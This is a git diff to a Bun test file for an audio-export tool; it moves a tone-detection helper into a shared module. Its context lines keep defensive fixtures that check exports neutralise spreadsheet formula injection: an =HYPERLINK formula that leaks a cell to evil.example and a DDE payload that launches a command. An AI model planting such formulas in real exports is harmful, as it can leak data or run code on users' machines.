@@ -3,7 +3,8 @@
  * deployment name that are spreadsheet formulas, a full disk (a small tmpfs where one can be
  * mounted, and a file-size limit everywhere), `--out` naming a file, a planted `.part` symlink,
  * and the combined Raven table checked against the audio: every selection's planted tone is where
- * the selection says, with deleted recordings out of the file sequence.
+ * the selection says, with deleted recordings out of the file sequence. The tone helper's own test
+ * is in test/report/hostile-exports.test.ts.
  */
 import { afterAll, beforeAll, describe, expect, test } from "bun:test";
 import { existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
@@ -11,7 +12,7 @@ import { join } from "node:path";
 import { buildBinary, runBinary, runner } from "../../helpers/binaries.ts";
 import { makeTempHome, type TempHome } from "../../helpers/cli.ts";
 import { smallTmpfs } from "../../helpers/mounts.ts";
-import { DELETED, RATE, RECORDINGS, TONE_HZ, toneWav, writeToneDb } from "../../helpers/tone-db.ts";
+import { DELETED, RATE, RECORDINGS, toneShare, writeToneDb } from "../../helpers/tone-db.ts";
 
 const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "=1"];
 const HOSTILE_DEPLOYMENT = "=cmd|' /C calc'!A0";
@@ -158,21 +159,6 @@ function samplesOf(path: string): Int16Array {
   return new Int16Array(bytes.buffer.slice(bytes.byteOffset + 44, bytes.byteOffset + bytes.byteLength));
 }
 
-/** The share of the power of `samples[from, to)` at TONE_HZ: near 1 for the pure tone, 0 for silence. */
-function toneShare(samples: Int16Array, from: number, to: number): number {
-  let re = 0;
-  let im = 0;
-  let power = 0;
-  for (let n = from; n < to; n++) {
-    const x = samples[n] ?? 0;
-    re += x * Math.cos((2 * Math.PI * TONE_HZ * n) / RATE);
-    im += x * Math.sin((2 * Math.PI * TONE_HZ * n) / RATE);
-    power += x * x;
-  }
-  const len = to - from;
-  return power === 0 ? 0 : (2 * (re * re + im * im)) / len / power;
-}
-
 describe("the combined Raven table against the audio", () => {
   let dir: string;
   beforeAll(() => {
@@ -222,11 +208,4 @@ describe("the combined Raven table against the audio", () => {
     expect(rows.filter((r) => r[at("Begin File")] === "").length).toBe(DELETED.size);
     expect(Number(rows[2]?.[at("Begin Time (s)")])).toBeCloseTo(3 + Number(rows[2]?.[at("File Offset (s)")]), 5);
   });
-});
-
-test("the tone helper plants a tone only where it says", () => {
-  const bytes = toneWav(2);
-  const s = new Int16Array(bytes.buffer.slice(bytes.byteOffset + 44, bytes.byteOffset + bytes.byteLength));
-  expect(toneShare(s, Math.round(1.1 * RATE), Math.round(1.4 * RATE))).toBeGreaterThan(0.9);
-  expect(toneShare(s, 0, Math.round(0.5 * RATE))).toBe(0);
 });
